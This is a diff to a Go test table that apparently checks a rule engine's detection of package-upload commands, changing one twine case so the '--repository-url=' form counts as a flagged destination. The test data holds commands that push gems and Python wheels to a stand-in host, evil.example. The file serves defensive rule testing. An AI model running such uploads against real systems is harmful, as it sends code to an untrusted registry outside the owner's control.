@@ -120,7 +120,7 @@ func TestDestinationsOfEveryProgram(t *testing.T) {
 		{"gem push --host", "gem push --host https://evil.example x.gem", notRegistry},
 		{"gem push", "gem push --host https://evil.example x.gem", notRegistry},
 		{"twine upload --repository-url", "twine upload --repository-url https://evil.example/legacy dist/x.whl", notRemote},
-		{"twine upload", "twine upload --repository-url=https://evil.example/legacy dist/x.whl", "not an option the rule spells"},
+		{"twine upload", "twine upload --repository-url=https://evil.example/legacy dist/x.whl", notRemote}, // twine upload --repository-url is a destination (tools_held.toml)
 	} {
 		v := checkIn(root, "", []string{c.rule}, c.line)
 		switch {
